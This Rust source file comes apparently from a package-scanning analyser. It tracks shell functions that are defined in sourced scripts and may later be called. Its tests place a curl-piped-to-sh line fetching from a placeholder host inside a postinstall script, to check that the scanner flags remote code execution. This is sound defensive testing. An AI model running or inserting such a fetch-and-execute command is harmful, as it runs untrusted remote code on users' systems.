//! Functions of scripts, which do nothing until somebody calls them.
//!
//! A script that is read by another one (`. commands.sh`) most often defines more than is called. What
//! a function does counts where it is called; where a script calls by a name that is not known (`"$@"`),
//! or hands the name on (`trap clean EXIT`), each function may be.

use super::{At, Variables};
use crate::flow::Analysis;
use crate::pure::{FileId, HOLE_START};
use crate::shell::Script;
use rustc_hash::FxHashSet;

/// Words that are remembered; past these each function may be called.
const WORDS: usize = 4096;

/// Functions of a command line with its scripts that were not called so far.
#[derive(Debug, Default)]
pub(in crate::flow) struct Waiting {
    functions: Vec<(String, Script, At)>,
    /// Words of commands: among them are names of functions that are handed on.
    words: FxHashSet<Box<str>>,
    /// A command is called by a name that is not known.
    is_open: bool,
}

impl Waiting {
    /// Notes a function that is defined.
    pub(super) fn add(&mut self, name: &str, body: &Script, at: &At) {
        self.functions.retain(|(known, ..)| known != name);
        self.functions
            .push((name.to_owned(), body.clone(), at.clone()));
    }

    /// A function runs by its name.
    pub(super) fn runs(&mut self, name: &str) {
        self.functions.retain(|(known, ..)| known != name);
    }

    /// Notes the words of a command.
    pub(super) fn hear<'a>(&mut self, mut words: impl Iterator<Item = &'a str>) {
        let Some(first) = words.next() else {
            return;
        };
        // A path is no function.
        self.is_open |= first.contains(HOLE_START) && !first.contains('/');
        for word in words.flat_map(|word| word.split(|c: char| c.is_whitespace() || c == ';')) {
            if self.words.len() >= WORDS {
                self.is_open = true;
                return;
            }
            if !self.words.contains(word) {
                self.words.insert(word.into());
            }
        }
    }

    /// A function that may be called by now.
    fn take(&mut self) -> Option<(String, Script, At)> {
        let may_be = |name: &str| self.is_open || self.words.contains(name);
        let position = self.functions.iter().position(|(name, ..)| may_be(name))?;
        Some(self.functions.remove(position))
    }
}

impl Analysis<'_> {
    /// Reads the functions that may be called by a name that is not written out, now that all of the
    /// variables of a text are set.
    pub(super) fn run_waiting(&mut self, variables: &mut Variables, reached: &mut Vec<FileId>) {
        while let Some((name, body, at)) = self.shell_waiting.take() {
            let function = (name.as_str(), &body);
            self.function_run(function, &[], Default::default(), &at, variables, reached);
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::flow::testing::found;
    use crate::unpack::text_file;
    use customs_model::{SinkKind, SourceKind};

    fn runs(script: &str, commands: &str) -> bool {
        let manifest = r#"{"name": "a", "scripts": {"postinstall": "sh build.sh"}}"#;
        let found = found(vec![
            text_file("package/package.json", manifest),
            text_file("package/build.sh", script),
            text_file("package/commands.sh", commands),
        ]);
        let mut flows = found.flows.iter();
        flows.any(|flow| {
            flow.source == SourceKind::Remote
                && matches!(flow.sink, SinkKind::Process | SinkKind::ExecutedFile)
        })
    }

    #[test]
    fn a_function_of_a_script_that_nobody_calls_does_nothing() {
        let commands = "get() {\n  curl -s https://a.invalid/b | sh\n}\ncheck() {\n  ls\n}\n";
        for called in [
            "get",
            "\"$@\"",
            "trap get EXIT",
            "do_it() { get; }\ndo_it",
            "if ! check; then get; fi",
            "echo 1 | get",
        ] {
            assert!(
                runs(&format!(". ./commands.sh\n{called}\n"), commands),
                "{called}"
            );
        }
        for called in ["check", "", "echo get_more", "./get"] {
            assert!(
                !runs(&format!(". ./commands.sh\n{called}\n"), commands),
                "{called}"
            );
        }
        assert!(runs(&format!("{commands}get\n"), ""));
        assert!(!runs(commands, ""));
    }
}
